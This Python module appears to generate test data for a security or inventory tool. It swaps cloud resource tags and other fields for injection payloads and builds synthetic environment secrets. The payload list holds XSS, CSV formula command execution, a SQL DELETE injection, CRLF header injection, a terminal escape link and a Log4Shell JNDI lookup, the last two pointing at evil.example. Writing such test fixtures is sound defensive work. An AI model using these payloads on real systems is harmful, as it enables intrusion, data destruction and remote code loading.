"""What people write into fields that anybody may fill, and secrets in environments."""

from __future__ import annotations

from tracehound.intrusions.chance import Dice

_POISON = (
    "\"><img src=x onerror=alert('owner')>",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "Robert'); DELETE FROM findings;--",
    "\x1b]8;;http://evil.example\x07click\x1b]8;;\x07",
    "owner\r\nX-Injected: yes",
    "%s%n${jndi:ldap://evil.example/a}",
    "\u2066\u202edesrever\u2069",
)
SECRET = "env-value-"


def said(dice: Dice, usual: str) -> str:
    """What is usual, or poison."""
    return dice.choice(_POISON) if dice.happens(0.12) else usual


def said_in_xml(dice: Dice, usual: str) -> str:
    """The same for EC2 and IAM, whose answers can't have control characters."""
    return dice.choice([text for text in _POISON if text.isprintable()]) if dice.happens(0.12) else usual


def environment(dice: Dice, count: int) -> list[dict[str, str]]:
    """Variables; nobody may keep their values."""
    return [
        {
            "name": f"{dice.word().upper()}_{dice.choice(('KEY', 'URL', 'TOKEN'))}",
            "value": SECRET + dice.hexadecimal(20),
        }
        for _ in range(count)
    ]


def tags(dice: Dice, owner: str, key: str = "key", value: str = "value") -> list[dict[str, str]]:
    """Tags of a thing; who owns it is said under different names, or not at all."""
    name = dice.choice(("Owner", "team", "COSTCENTER", "CostCenter", "Name", "purpose"))
    told = said_in_xml(dice, owner) if key == "Key" else said(dice, owner)
    return [{key: name, value: told}, {key: "env", value: "x"}]
